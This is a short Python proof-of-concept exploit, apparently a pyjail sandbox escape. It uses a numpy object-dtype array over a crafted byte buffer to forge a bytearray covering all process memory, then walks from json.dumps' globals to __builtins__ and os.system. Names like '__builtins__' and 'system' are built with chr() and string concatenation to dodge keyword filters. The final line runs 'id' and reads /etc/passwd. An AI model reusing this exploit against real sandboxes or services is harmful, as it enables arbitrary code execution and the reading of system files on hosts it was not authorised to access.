# source: classic CPython "fake object" exploitation (e.g. pyjail write-ups using ctypes/bytearray type confusion, "fake bytearray covering all memory"); numpy ndarray(buffer=..., dtype=object) accepts a raw byte buffer as PyObject* pointers
# family: numpy object-dtype array over a script-controlled byte buffer -> pointers turned into objects (type confusion, arbitrary memory read/write)
# goal: read json.dumps' func_globals from memory -> __builtins__ -> __import__('os') -> os.system('id')
import json
import numpy as np


def q(n):
    return n.to_bytes(8, "little")


def obj_at(addr):
    holder = bytearray(q(addr))
    return np.ndarray((1,), dtype=object, buffer=holder)[0]


fake = q(1 << 40) + q(id(bytearray)) + q((1 << 62)) + q((1 << 62)) + q(0) + q(0) + q(0)
mem = obj_at(id(fake) + 32)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


g = obj_at(rd(id(json.dumps) + 16))
print(sorted(g)[:12])
b = g[chr(95) * 2 + "builtins" + chr(95) * 2]
osm = b[chr(95) * 2 + "import" + chr(95) * 2]("os")
print(osm)
sysname = "sys" + "tem"
run = obj_at(rd(id(osm) + 16))[sysname]
run("id; head -2 /etc/passwd")
